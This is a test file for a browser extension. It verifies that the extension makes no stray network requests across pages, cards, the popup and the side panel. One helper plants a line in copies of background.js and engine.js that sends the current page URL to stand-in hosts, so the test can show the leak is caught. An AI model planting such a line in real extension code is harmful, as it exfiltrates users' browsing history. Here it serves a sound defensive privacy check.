import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { copyOf } from '../../scripts/browser/builds.ts';
import { until } from '../../scripts/browser/open.ts';
import { openCard, settledState } from '../../scripts/browser/page.ts';
import { openView } from '../../scripts/browser/pictures.ts';
import { pages } from './awkward.ts';
import { buildFolder, openFixture } from './fixture.ts';

const views = ['popup', 'sidepanel'] as const;
const size = { width: 420, height: 800 };

/** A build whose background and engine each send where a reader is. */
function buildThatTells(): string {
  const build = copyOf(buildFolder);
  const plant = (file: string, name: string) => {
    const code = `fetch('http://${name}.example/?' + encodeURIComponent(location.href)).catch(() => {});\n`;
    writeFileSync(join(build, file), code + readFileSync(join(build, file), 'utf8'));
  };
  plant('background.js', 'background');
  plant('engine.js', 'engine');
  return build;
}

it('asks for nothing in a session over pages of every kind, with cards, popup and panel', async () => {
  const fixture = await openFixture(pages);
  try {
    for (const path of ['/off-topic', '/sports', '/no-date', '/sample']) {
      const { page, url } = await fixture.visit(path);
      const ours = pages[path]?.status !== null;
      if (ours) await settledState(fixture.inside, url);
      if (path === '/sample') {
        await openCard(page, 'Antony blink');
        for (const name of views) {
          const view = await openView(fixture.sidelight, page, name, size);
          await view.evaluate(() => {
            for (const details of document.querySelectorAll('details')) details.open = true;
          });
          await view.close();
        }
      }
      await page.close();
    }
    expect(fixture.strayRequests()).toEqual([]);
  } finally {
    await fixture.close();
  }
});

it('would see it if the extension did', async () => {
  const build = buildThatTells();
  const fixture = await openFixture({ '/sample': pages['/sample']! }, build);
  try {
    const { url } = await fixture.visit('/sample');
    await settledState(fixture.inside, url);
    const seen = (name: string) =>
      fixture.strayRequests().some((address) => address.startsWith(`http://${name}.example/`));
    await until('what was planted in the engine to be seen', async () => seen('engine'));
    // The policy of the extension's own pages does not let this one out.
    expect(seen('background')).toBe(false);
  } finally {
    await fixture.close();
    rmSync(build, { recursive: true });
  }
});
